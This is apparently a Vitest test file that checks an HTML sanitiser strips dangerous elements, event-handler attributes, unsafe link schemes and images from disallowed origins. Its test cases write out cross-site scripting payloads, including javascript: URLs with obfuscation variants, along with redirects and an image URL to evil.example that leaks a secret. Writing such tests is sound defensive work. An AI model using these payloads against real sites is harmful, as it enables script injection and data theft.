// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { toOriginSet } from "./image-origins";
import { sanitizeHtml } from "./sanitize-html";

// The sanitiser on its own, as if marked's HTML escaping had failed: the
// allowlist must hold without it.
function sanitize(html: string, origins: string[] = []): HTMLDivElement {
  const container = document.createElement("div");
  container.innerHTML = String(sanitizeHtml(html, { imageOrigins: toOriginSet(origins) }));
  return container;
}

const DANGEROUS_ELEMENTS =
  "script, iframe, object, embed, form, input, button, style, svg, math, base, meta, link, textarea, select";

describe("sanitizeHtml allowlist", () => {
  it.each([
    "<script>alert(1)</script>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<svg><script>alert(1)</script></svg><math><mtext><script>alert(1)</script></mtext></math>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<textarea>x</textarea><select><option>x</option></select>",
  ])("removes the elements in %j", (html) => {
    expect(sanitize(html).querySelector(DANGEROUS_ELEMENTS)).toBeNull();
  });

  it("removes event handlers, style, class, id and data attributes", () => {
    const dom = sanitize(
      '<p onclick="alert(1)" onmouseover="alert(1)" style="color:red" class="btn" id="x" data-x="1">t</p>',
    );
    expect(dom.querySelector("p")?.getAttributeNames()).toEqual([]);
  });

  it.each([
    "javascript:alert(1)",
    " JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "/relative",
  ])("removes href=%j", (href) => {
    expect(sanitize(`<a href="${href}">x</a>`).querySelector("a")?.hasAttribute("href")).toBe(false);
  });

  it("marks kept links as external", () => {
    const link = sanitize('<a href="https://example.com" target="_self" rel="opener">x</a>').querySelector("a");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("turns a disallowed image into its alt text and keeps an allowed one", () => {
    const dom = sanitize(
      '<p><img src="https://evil.example/p.png?leak=secret" alt="chart"><img src="https://ok.example/a.png" alt="ok"></p>',
      ["https://ok.example"],
    );
    expect(dom.innerHTML).toBe('<p>chart<img src="https://ok.example/a.png" alt="ok"></p>');
  });
});
